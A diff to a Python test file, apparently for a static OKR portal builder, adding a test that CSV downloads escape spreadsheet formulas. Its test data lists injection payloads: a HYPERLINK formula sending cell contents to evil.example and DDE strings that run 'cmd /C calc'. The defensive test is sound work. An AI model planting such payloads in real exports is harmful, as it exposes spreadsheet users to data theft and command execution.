@@ -386,6 +386,45 @@ def test_json_and_csv_downloads_are_data_with_the_texts_as_written(corpus_site):
     assert data == ["data/index.html", *sorted(f"data/m{i:02d}.csv" for i in range(len(PAYLOADS)))]
 
 
+FORMULA_NOTES = [  # (as written in the metric's CSV, as the download must hold it)
+    ('=HYPERLINK("https://evil.example/?x="&A1,"Click for details")',
+     '\'=HYPERLINK("https://evil.example/?x="&A1,"Click for details")'),
+    ("+SUM(1,2)", "'+SUM(1,2)"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'=1+1"),  # the whitespace is stripped when the portal is read: the cell starts with =
+    ("  =2+2", "'=2+2"),
+    ("\r=3+3", "'=3+3"),
+    ("a note with = + - @ inside", "a note with = + - @ inside"),  # only the first character counts
+    ("-3.5", "-3.5"),  # purely numeric: a number, not a formula
+]
+
+
+def test_csv_downloads_hold_no_spreadsheet_formulas(portal, cli):
+    def field(text: str) -> str:
+        return '"' + text.replace('"', '""') + '"'
+
+    rows = [(f"2026-{n + 1:02d}-01", -3.5 + n, note) for n, (note, _) in enumerate(FORMULA_NOTES)]
+    written = "date,value,note\n" + "".join(f"{day},{value},{field(note)}\n" for day, value, note in rows)
+    root = portal({"okrs/objectives/a.yml": GOOD_OBJECTIVE, "okrs/metrics/wait.csv": written},
+                  portal_yml="schema: 1\ntitle: Test portal\norganization: Org\nperiods:\n"
+                             "  - {id: cy2026, title: Calendar year 2026, start: 2026-01-01, end: 2026-12-31}\n")
+    run = cli(root, "build", "--as-of", AS_OF)
+    assert run.code == 0, run.out + run.err
+    with open(root / "site/data/wait.csv", newline="", encoding="utf-8") as f:
+        published = list(csv.reader(f))
+    assert published[0] == ["date", "value", "note"]
+    assert [row[2] for row in published[1:]] == [want for _, want in FORMULA_NOTES]
+    # values are numbers, negative ones too, and stay as they are
+    assert [row[1] for row in published[1:]] == ["-3.5", "-2.5", "-1.5", "-0.5", "0.5", "1.5", "2.5", "3.5", "4.5"]
+    for row in published[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), row
+    # the portal's own CSV stays as written
+    assert (root / "okrs/metrics/wait.csv").read_bytes() == written.encode("utf-8")
+
+
 def test_sitemap_holds_only_urls(corpus_site):
     for name in ("sitemap.xml", "sitemap.xml.gz"):
         path = corpus_site / name
@@ -571,7 +610,7 @@ def _objective_with(old: str, new: str) -> str:
 
 
 @pytest.mark.parametrize("old, new, line, words", [
-    ("title: Shorter waits", "title: [Shorter waits", (3, 4), "YAML"),  # not YAML any more
+    ("title: Shorter waits", "title: [Shorter waits", (3, 4), "never closed"),  # not YAML any more
     ("title: Shorter waits", "titel: Shorter waits", (3,), "titel"),  # a typo: unknown key
     ("metric: wait", "metric: wiat", (8,), "wiat"),  # a metric that does not exist
 ])
